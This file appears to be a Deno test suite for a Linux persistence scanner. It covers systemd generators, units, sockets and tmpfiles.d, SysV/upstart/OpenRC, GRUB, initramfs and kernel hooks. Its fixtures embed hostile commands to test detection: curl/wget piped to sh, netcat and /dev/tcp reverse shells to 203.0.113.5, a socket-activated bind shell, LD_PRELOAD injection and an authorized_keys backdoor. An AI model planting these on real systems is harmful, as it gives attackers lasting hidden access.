/**
 * persistence, boot and service managers: systemd generators, package units and their drop-ins, user units,
 * SysV init, upstart and OpenRC, GRUB and the kernel command line, initramfs hooks and dracut modules.
 */
import assert from "node:assert/strict";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { makeTree, runOne } from "../helpers.ts";
import { commandName } from "../../src/scanners/persistence/shell_words.ts";
import { parseTmpfiles } from "../../src/scanners/persistence/sources/tmpfiles.ts";
import { exe, fired, rootWith } from "./persistence_fixtures.ts";

const ELF = { content: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), mode: 0o755 };

Deno.test("generators: payloads, planted and unowned generators fire; packaged and masked ones stay quiet", async () => {
  using root = makeTree(rootWith(["/usr/lib/systemd/system-generators/systemd-fstab-generator"], {
    "usr/lib/systemd/system-generators/systemd-fstab-generator": ELF,
    "usr/lib/systemd/system-generators/systemd-net-generator": ELF,
    "etc/systemd/system-generators/zz-update": exe("#!/bin/sh\ncurl -fsSL http://203.0.113.5/g | sh\n"),
    "usr/local/lib/systemd/user-generators/kwin-helper": exe("#!/bin/sh\n/tmp/.k/agent &\n"),
    "etc/systemd/system-generators/masked-one": { symlink: "/dev/null" },
    "usr/lib/systemd/system-generators/masked-one": exe("#!/bin/sh\nnc -e /bin/sh 203.0.113.5 1\n"),
    "run/systemd/system-generators/not-executable": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o644 },
  }));
  const r = await runOne(persistence, root.path);
  assert.equal(r.status, "ok");
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.download_exec /etc/systemd/system-generators/zz-update:2",
    "high persistence.command.untrusted_path /usr/local/lib/systemd/user-generators/kwin-helper:2",
    "medium persistence.systemd_generator.unowned /etc/systemd/system-generators/zz-update",
    "medium persistence.systemd_generator.unowned /usr/lib/systemd/system-generators/systemd-net-generator",
    "medium persistence.systemd_generator.unowned /usr/local/lib/systemd/user-generators/kwin-helper",
  ]);
  const user = r.findings.find((f) =>
    f.check_id === "persistence.command.untrusted_path" &&
    f.metadata.path === "/usr/local/lib/systemd/user-generators/kwin-helper"
  )!;
  assert.equal(user.metadata.run_as, "(each user)");
  assert.deepEqual(r.warnings, []);
});

Deno.test("package units: planted units, drop-ins that change them and preloaded libraries fire; packaged ones stay quiet", async () => {
  using root = makeTree(rootWith([
    "/lib/systemd/system/ssh.service",
    "/lib/systemd/system/cron.service",
    "/lib/systemd/system/redis.service",
    "/usr/sbin/sshd",
  ], {
    "lib": { symlink: "usr/lib" },
    "usr/sbin/sshd": exe(""),
    "usr/lib/systemd/system/ssh.service": "[Service]\nExecStart=/usr/sbin/sshd -D\n",
    "usr/lib/systemd/system/cron.service": "[Service]\nExecStart=/usr/sbin/cron -f\n",
    "usr/lib/systemd/system/redis.service": "[Service]\nExecStart=/usr/bin/redis-server\n",
    "usr/lib/systemd/system/dbus-broker-helper.service": "[Service]\nExecStart=/usr/libexec/dbus-helper\n",
    "usr/lib/systemd/user/gvfs-helper.service": "[Service]\nExecStart=/usr/libexec/gvfs-helper\n",
    // An administrator's override with an empty reset and a line continuation: quiet.
    "etc/systemd/system/ssh.service.d/override.conf":
      "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D \\\n  -o LogLevel=VERBOSE\n",
    // An intruder's drop-in: the command runs from /tmp before cron starts.
    "etc/systemd/system/cron.service.d/10-fix.conf":
      "[Unit]\nDescription=x\n\n[Service]\nExecStartPre=+/tmp/.c/s\n",
    "run/systemd/system/cron.service.d/20-env.conf":
      '[Service]\nEnvironment="LD_PRELOAD=/dev/shm/libc.so.7" FOO=1\n',
    "etc/systemd/system/redis.service.d/jemalloc.conf":
      "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n",
    "usr/lib/x86_64-linux-gnu/libjemalloc.so.2": "",
    "etc/systemd/system/local.service":
      "[Service]\nEnvironment=LD_PRELOAD=/opt/vendor/libhook.so\nExecStart=/usr/bin/true\n",
    "opt/vendor/libhook.so": "",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.untrusted_path /etc/systemd/system/cron.service.d/10-fix.conf:5",
    "high persistence.systemd_unit.preload /run/systemd/system/cron.service.d/20-env.conf:2",
    "medium persistence.systemd_unit.preload /etc/systemd/system/local.service:2",
    "medium persistence.systemd_unit.unowned /usr/lib/systemd/system/dbus-broker-helper.service",
    "medium persistence.systemd_unit.unowned /usr/lib/systemd/user/gvfs-helper.service",
  ]);
  const dropIn = r.findings.find((f) =>
    f.metadata.path === "/etc/systemd/system/cron.service.d/10-fix.conf"
  )!;
  assert.deepEqual([dropIn.metadata.unit, dropIn.metadata.command, dropIn.metadata.run_as], [
    "cron.service",
    "/tmp/.c/s",
    "root",
  ]);
});

Deno.test("user units: /etc/systemd/user runs for everyone; ~/.local/share/systemd/user too", async () => {
  using root = makeTree(rootWith([], {
    "etc/systemd/user/pulse-sync.service": "[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 203.0.113.5 1'\n",
    "home/bob/.local/share/systemd/user/sync.service": "[Service]\nExecStart=/var/tmp/sync\n",
    "home/alice/.config/systemd/user/own.service": "[Service]\nExecStart=/home/alice/bin/own\n",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /etc/systemd/user/pulse-sync.service",
    "high persistence.command.untrusted_path /home/bob/.local/share/systemd/user/sync.service",
  ]);
  assert.deepEqual(r.findings.map((f) => f.metadata.run_as).sort(), ["(each user)", "bob"]);
});

Deno.test("SysV, upstart, OpenRC: unowned scripts, links outside init.d, job payloads, local.d", async () => {
  using root = makeTree(rootWith(["/etc/init.d/ssh", "/etc/init.d/README"], {
    "etc/init.d/ssh": exe(
      "#!/bin/sh\n### BEGIN INIT INFO\n. /lib/lsb/init-functions\nstart-stop-daemon --start\n",
    ),
    "etc/init.d/README": "docs\n",
    "etc/init.d/netmon": exe("#!/bin/sh\ncase $1 in start) /usr/local/sbin/netmon ;; esac\n"),
    "etc/init.d/old.dpkg-old": exe("#!/bin/sh\n/tmp/x\n"),
    "etc/rc2.d/S01ssh": { symlink: "../init.d/ssh" },
    "etc/rc2.d/S02netmon": { symlink: "../init.d/netmon" },
    "etc/rc3.d/S99zz": { symlink: "/dev/shm/.z" },
    "etc/rcS.d/S01early": exe("#!/bin/sh\necho early\n"),
    "etc/rc.d/rc3.d/K01x": { symlink: "../init.d/x" },
    "etc/init/ttyS.conf": "start on runlevel [2345]\nexec /sbin/getty -L 115200 ttyS0\n",
    "etc/init/sync.conf":
      "pre-start script\n  mkdir -p /run/s\n  wget -qO- http://203.0.113.5/u | \\\n  sh\nend script\n",
    "etc/init/open.conf": "script\n/tmp/x\n",
    "etc/local.d/net.start": exe("/usr/local/bin/tun up\n"),
    "etc/local.d/off.start": { content: "/tmp/x\n", mode: 0o644 },
    "etc/runlevels/default/sshd": { symlink: "/etc/init.d/ssh" },
    "etc/runlevels/boot/hidden": { symlink: "/usr/local/bin/hidden" },
  }));
  const r = await runOne(persistence, root.path, { persistenceInventory: true });
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.download_exec /etc/init/sync.conf:3",
    "high persistence.command.untrusted_path /etc/init/open.conf:2",
    "high persistence.command.untrusted_path /etc/rc3.d/S99zz",
    "low persistence.rc_local.active /etc/local.d/net.start",
    "low persistence.sysv_init.unowned /etc/init.d/netmon",
    "medium persistence.sysv_init.link_outside /etc/rc3.d/S99zz",
    "medium persistence.sysv_init.link_outside /etc/rcS.d/S01early",
    "medium persistence.sysv_init.link_outside /etc/runlevels/boot/hidden",
  ]);
  const netmon = r.findings.find((f) => f.id === "persistence.inventory.point:sysv_init:/etc/init.d/netmon")!;
  assert.deepEqual(netmon.metadata.enabled_in, ["/etc/rc2.d"]);
  const ssh = r.findings.find((f) => f.id === "persistence.inventory.point:sysv_init:/etc/init.d/ssh")!;
  assert.deepEqual(ssh.metadata.enabled_in, ["/etc/rc2.d", "/etc/runlevels/default"]);
  assert.deepEqual(r.warnings.map((w) => w.code), ["upstart_malformed"], "open.conf never closes its script");
});

Deno.test("GRUB: init= and protections switched off in every boot configuration; stock command lines are quiet", async () => {
  using root = makeTree(rootWith(["/etc/grub.d/10_linux", "/etc/grub.d/40_custom"], {
    "etc/default/grub": [
      "GRUB_DEFAULT=0",
      "GRUB_DISTRIBUTOR=`lsb_release -i -s 2> /dev/null || echo Debian`",
      'GRUB_CMDLINE_LINUX_DEFAULT="quiet"',
      'GRUB_CMDLINE_LINUX="console=ttyS0 init=/lib/systemd/systemd"',
    ].join("\n"),
    "etc/default/grub.d/50-cloud.cfg":
      'GRUB_CMDLINE_LINUX_DEFAULT="$GRUB_CMDLINE_LINUX_DEFAULT init=/var/tmp/.i"\n',
    "etc/default/grub.d/60-x.cfg":
      "export GRUB_CMDLINE_LINUX=\"${GRUB_CMDLINE_LINUX} 'module.sig_enforce=0'\"\n",
    "etc/default/grub.d/README": "not read: only *.cfg\nGRUB_CMDLINE_LINUX=selinux=0\n",
    "boot/grub/grub.cfg": [
      "menuentry 'Debian' {",
      "\tlinux\t/vmlinuz-6.1.0-18-amd64 root=UUID=0b1e ro quiet",
      "\tlinux\t/vmlinuz-6.1.0-18-amd64 root=UUID=0b1e ro single lockdown=none -- init=/not/a/kernel/param",
      "}",
    ].join("\n"),
    "boot/loader/entries/abc-5.14.0.conf": "title RHEL\noptions root=/dev/vda1 ro rdinit=/tmp/r selinux=0\n",
    "etc/kernel/cmdline": "root=/dev/vda1 ro quiet\n",
    "etc/grub.d/10_linux": exe(
      "#!/bin/sh\necho 'linux ${rel_dirname}/${basename} root=${root} ro ${args}'\n",
    ),
    "etc/grub.d/40_custom": exe(
      "#!/bin/sh\nexec tail -n +3 $0\nmenuentry 'x' {\n  linux /vmlinuz init=/usr/local/bin/.i\n}\n",
    ),
    "etc/grub.d/07_fetch": exe("#!/bin/sh\ncurl -s http://203.0.113.5/k | sh\n"),
    "etc/grub.d/README": "docs\n",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings), [
    "high persistence.boot.init_override /boot/loader/entries/abc-5.14.0.conf:2",
    "high persistence.boot.init_override /etc/default/grub.d/50-cloud.cfg:1",
    "high persistence.boot.init_override /etc/grub.d/40_custom:4",
    "high persistence.command.download_exec /etc/grub.d/07_fetch:2",
    "high persistence.command.untrusted_path /boot/loader/entries/abc-5.14.0.conf:2",
    "high persistence.command.untrusted_path /etc/default/grub.d/50-cloud.cfg:1",
    "medium persistence.boot.protection_off /boot/grub/grub.cfg:3",
    "medium persistence.boot.protection_off /boot/loader/entries/abc-5.14.0.conf:2",
    "medium persistence.boot.protection_off /etc/default/grub.d/60-x.cfg:1",
    "medium persistence.boot_script.unowned /etc/grub.d/07_fetch",
  ]);
  const cloud = r.findings.find((f) =>
    f.check_id === "persistence.boot.init_override" && f.metadata.line === 1
  )!;
  assert.equal(cloud.metadata.cmdline, "quiet init=/var/tmp/.i", "$GRUB_CMDLINE_LINUX_DEFAULT was expanded");
});

Deno.test("initramfs: hooks, boot scripts and dracut modules no package installed, and their payloads", async () => {
  using root = makeTree(rootWith([
    "/usr/share/initramfs-tools/hooks/udev",
    "/usr/share/initramfs-tools/scripts/init-top/udev",
    "/usr/lib/dracut/modules.d/90kernel-modules/module-setup.sh",
  ], {
    "usr/share/initramfs-tools/hooks/udev": exe(
      "#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /sbin/udevadm\n",
    ),
    "usr/share/initramfs-tools/scripts/init-top/udev": exe("#!/bin/sh\n/sbin/udevd --daemon\n"),
    "usr/share/initramfs-tools/scripts/init-top/zz-net": exe(
      "#!/bin/sh\n/bin/busybox nc -e /bin/sh 203.0.113.5 1 &\n",
    ),
    "etc/initramfs-tools/hooks/keys": exe("#!/bin/sh\ncp /root/.k /tmp/k\n"),
    "etc/initramfs-tools/hooks/bad name": exe("#!/bin/sh\n/tmp/x\n"),
    "etc/initramfs-tools/initramfs.conf": "MODULES=most\nBUSYBOX=auto\n",
    "usr/lib/dracut/modules.d/90kernel-modules/module-setup.sh": exe("#!/bin/bash\ncheck() { return 0; }\n"),
    "usr/lib/dracut/modules.d/99rescue/module-setup.sh": exe(
      '#!/bin/bash\ninstall() { inst_hook pre-mount 01 "$moddir/r.sh"; }\n',
    ),
    "usr/lib/dracut/modules.d/99rescue/r.sh": exe("#!/bin/sh\necho ZWNobyBoaQ== | base64 -d | sh\n"),
    "etc/dracut.conf.d/90-x.conf": 'install_items+=" /usr/local/bin/x "\n',
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /usr/share/initramfs-tools/scripts/init-top/zz-net:2",
    "high persistence.command.encoded_payload /usr/lib/dracut/modules.d/99rescue/r.sh:2",
    "medium persistence.boot_script.unowned /etc/initramfs-tools/hooks/keys",
    "medium persistence.boot_script.unowned /usr/lib/dracut/modules.d/99rescue/module-setup.sh",
    "medium persistence.boot_script.unowned /usr/lib/dracut/modules.d/99rescue/r.sh",
    "medium persistence.boot_script.unowned /usr/share/initramfs-tools/scripts/init-top/zz-net",
  ]);
});

Deno.test("boot families: a root without a package database warns once instead of judging owners", async () => {
  using root = makeTree({
    "etc/passwd": "root:x:0:0::/root:/bin/sh\n",
    "usr/lib/systemd/system-generators/g": exe("#!/bin/sh\ntrue\n"),
    "etc/init.d/x": exe("#!/bin/sh\ntrue\n"),
  });
  const r = await runOne(persistence, root.path);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings.map((w) => w.code), ["no_package_db"]);
  assert.match(r.warnings[0].detail!, /package ownership of 2 file\(s\) not checked/);
});

Deno.test("tmpfiles.d: lines, their modifiers and arguments; malformed lines are counted", () => {
  const t = parseTmpfiles([
    "# comment",
    "d /run/sshd 0755 root root",
    "L+ /etc/ld.so.preload - - - - /var/tmp/.l",
    "w+ /root/.ssh/authorized_keys - - - - ssh-ed25519 AAAA key x",
    "f /run/utmp 0664 root utmp -",
    "C! /etc/pam.d - - - -",
    "relative/path 0755",
    "Lx /etc/x",
    "\u0000\u00ff garbage",
    "z",
  ].join("\n"));
  assert.deepEqual(t.lines.map((l) => [l.line, l.type, l.typeField, l.path, l.argument]), [
    [2, "d", "d", "/run/sshd", undefined],
    [3, "L", "L+", "/etc/ld.so.preload", "/var/tmp/.l"],
    [4, "w", "w+", "/root/.ssh/authorized_keys", "ssh-ed25519 AAAA key x"],
    [5, "f", "f", "/run/utmp", undefined],
    [6, "C", "C!", "/etc/pam.d", undefined],
  ]);
  assert.equal(t.bad, 4);
  assert.deepEqual(parseTmpfiles(""), { lines: [], bad: 0 });
});

Deno.test("tmpfiles.d: boot-time writes of persistence files fire; packaged and ordinary lines stay quiet", async () => {
  using root = makeTree(rootWith(["/usr/lib/tmpfiles.d/etc.conf", "/usr/lib/tmpfiles.d/masked.conf"], {
    "etc/tmpfiles.d/health.conf": "L+ /etc/ld.so.preload - - - - /var/tmp/.l\n" +
      "w+ /root/.ssh/authorized_keys - - - - ssh-ed25519 AAAAC3Nza backdoor\n",
    "etc/tmpfiles.d/jobs.conf":
      "f+ /etc/cron.d/sync 0644 root root - * * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
    // Quoted paths and specifiers are what systemd-tmpfiles reads too (252 expanded %h to /root here).
    "etc/tmpfiles.d/quoted.conf": 'L+ "/etc/X11/Xsession.d/10zz" - - - - /var/tmp/.xs\n' +
      "f+ %h/.ssh/authorized_keys 0600 root root - ssh-ed25519 AAAAC3Nza x\n",
    "var/tmp/.l": "\u007fELF\u0000",
    // Quiet: runtime directories and files, the distribution's own links and copies (packaged).
    "etc/tmpfiles.d/app.conf": "d /run/app 0755 app app -\nf /var/log/app.log 0640 app adm -\n",
    "usr/lib/tmpfiles.d/etc.conf": "L /etc/os-release - - - - ../usr/lib/os-release\nC! /etc/pam.d - - - -\n",
    "usr/lib/tmpfiles.d/masked.conf": "L+ /etc/ld.so.preload - - - - /var/tmp/.m\n",
    // Debian's own, as shipped: a link to /dev/shm is no persistence, and its file need not be packaged here.
    "usr/lib/tmpfiles.d/debian.conf": "L /run/shm     -    -    -    -   /dev/shm\n" +
      "d /run/sendsigs.omit.d 0755 root root -\nL+ /etc/mtab   -    -    -    -  ../proc/self/mounts\n",
    "etc/tmpfiles.d/masked.conf": { symlink: "/dev/null" },
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /etc/tmpfiles.d/jobs.conf:1",
    "high persistence.command.untrusted_path /etc/tmpfiles.d/health.conf:1",
    "high persistence.command.untrusted_path /etc/tmpfiles.d/quoted.conf:1",
    "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/health.conf:1",
    "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/health.conf:2",
    "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/jobs.conf:1",
    "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/quoted.conf:1",
    "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/quoted.conf:2",
  ]);
  const key = r.findings.find((f) =>
    f.metadata.path === "/etc/tmpfiles.d/quoted.conf" && f.metadata.line === 2
  )!;
  assert.equal(key.metadata.target, "/root/.ssh/authorized_keys");
});

Deno.test("systemd sockets: a bind shell started per connection, socket Exec lines, and the other user unit dirs", async () => {
  using root = makeTree(rootWith([], {
    "etc/systemd/system/backdoor.socket": "[Socket]\nListenStream=31337\nAccept=yes\n" +
      "ExecStartPre=/var/tmp/.x/prep\n[Install]\nWantedBy=sockets.target\n",
    "etc/systemd/system/backdoor@.service": "[Service]\nExecStart=-/bin/bash -i\nStandardInput=socket\n",
    "var/tmp/.x/prep": exe("#!/bin/sh\n"),
    "usr/local/lib/systemd/user/sync.service": "[Service]\nExecStart=/var/tmp/.y/sync\n",
    "var/tmp/.y/sync": exe("#!/bin/sh\n"),
    // Behind a wrapper, quoted, and as a user's own socket.
    "etc/systemd/system/s2.socket": "[Socket]\nListenStream=31338\nAccept=yes\n",
    "etc/systemd/system/s2@.service": "[Service]\nExecStart=/usr/bin/env -i bash -i\nStandardInput=socket\n",
    "etc/systemd/system/s3.socket": "[Socket]\nListenStream=31339\nAccept=yes\n",
    "etc/systemd/system/s3@.service": '[Service]\nExecStart="/bin/bash" -i\nStandardInput=socket\n',
    "home/bob/.config/systemd/user/u.socket": "[Socket]\nListenStream=31340\nAccept=yes\n",
    "home/bob/.config/systemd/user/u@.service": "[Service]\nExecStart=/bin/sh -i\nStandardInput=socket\n",
    // Quiet: sshd started per connection (its input is the socket, its program is no shell).
    "lib/systemd/system/ssh.socket": "[Socket]\nListenStream=22\nAccept=yes\n",
    "lib/systemd/system/ssh@.service": "[Service]\nExecStart=-/usr/sbin/sshd -i\nStandardInput=socket\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(fired(r.findings).filter((f) => !f.includes("unowned")), [
    "critical persistence.systemd_unit.socket_shell /etc/systemd/system/backdoor.socket",
    "critical persistence.systemd_unit.socket_shell /etc/systemd/system/s2.socket",
    "critical persistence.systemd_unit.socket_shell /etc/systemd/system/s3.socket",
    "critical persistence.systemd_unit.socket_shell /home/bob/.config/systemd/user/u.socket",
    "high persistence.command.untrusted_path /etc/systemd/system/backdoor.socket",
    "high persistence.command.untrusted_path /usr/local/lib/systemd/user/sync.service",
  ]);
  const shell = r.findings.find((f) => f.check_id === "persistence.systemd_unit.socket_shell")!;
  assert.deepEqual([shell.metadata.service, shell.metadata.run_as, shell.metadata.listen], [
    "backdoor@.service",
    "root",
    ["31337"],
  ]);
});

Deno.test("kernel hooks: scripts run when a kernel is installed are judged; an unowned one in /usr/lib is said", async () => {
  using root = makeTree(rootWith(["/usr/lib/kernel/install.d/50-depmod.install"], {
    "etc/kernel/postinst.d/zz-sync": exe("#!/bin/sh\ncurl -fsSL http://203.0.113.5/k | sh\n"),
    "usr/lib/kernel/install.d/50-depmod.install": exe('#!/bin/sh\ndepmod -a "$1"\n'),
    "usr/lib/kernel/install.d/99-extra.install": exe("#!/bin/sh\nexit 0\n"),
    "etc/kernel/postinst.d/initramfs-tools": exe('#!/bin/sh\nupdate-initramfs -c -k "$1"\n'),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.download_exec /etc/kernel/postinst.d/zz-sync:2",
    "medium persistence.boot_script.unowned /usr/lib/kernel/install.d/99-extra.install",
  ]);
});

Deno.test("systemd: transient and control units are read with the others", async () => {
  using root = makeTree(rootWith([], {
    "run/systemd/transient/run-u42.service": "[Service]\nExecStart=/var/tmp/.t/agent\n",
    "var/tmp/.t/agent": exe("#!/bin/sh\n"),
    "etc/systemd/system.control/ssh.service.d/50-Env.conf":
      "[Service]\nEnvironment=LD_PRELOAD=/var/tmp/.t/l.so\n",
    "lib/systemd/system/ssh.service": "[Service]\nExecStart=/usr/sbin/sshd -D\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(fired(r.findings).filter((f) => !f.includes("unowned")), [
    "high persistence.command.untrusted_path /run/systemd/transient/run-u42.service",
    "high persistence.systemd_unit.preload /etc/systemd/system.control/ssh.service.d/50-Env.conf:2",
  ]);
});

Deno.test("commandName: the program an ExecStart= line finally runs, past wrappers and quotes", () => {
  assert.equal(commandName("/bin/bash -i"), "bash");
  assert.equal(commandName("/usr/bin/env -i PATH=/x bash -i"), "bash");
  assert.equal(commandName('"/bin/sh" -c x'), "sh");
  assert.equal(commandName("nice -n 5 timeout 60 setsid /usr/bin/python3 -i"), "python3");
  assert.equal(commandName("/usr/sbin/sshd -i"), "sshd");
  assert.equal(commandName(""), "");
  assert.equal(commandName("env"), "");
});

Deno.test("package units: what a unit the package database claims runs is judged, so a forged .list line hides nothing", async () => {
  using root = makeTree(rootWith([
    "/usr/lib/systemd/system/systemd-timesync-helper.service",
    "/usr/lib/systemd/systemd-timesyncd-helper",
    "/usr/lib/systemd/system/ssh.service",
    "/usr/sbin/sshd",
  ], {
    "usr/lib/systemd/system/systemd-timesync-helper.service":
      "[Service]\nExecStart=/usr/lib/systemd/systemd-timesyncd-helper\nRestart=always\n",
    "usr/lib/systemd/systemd-timesyncd-helper": exe("#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/443 0>&1\n"),
    "etc/systemd/system/multi-user.target.wants/systemd-timesync-helper.service": {
      symlink: "/usr/lib/systemd/system/systemd-timesync-helper.service",
    },
    "usr/lib/systemd/system/ssh.service": "[Service]\nExecStart=/usr/sbin/sshd -D\n",
    "usr/sbin/sshd": exe("\x7fELF\0"),
  }));
  const r = await runOne(persistence, root.path, { persistenceInventory: true });
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /usr/lib/systemd/system/systemd-timesync-helper.service",
  ]);
  // Package units stay out of the inventory, which lists what was added.
  assert.deepEqual(
    r.findings.filter((f) =>
      f.check_id === "persistence.inventory.point" && f.metadata.kind === "systemd_service"
    ),
    [],
  );
});
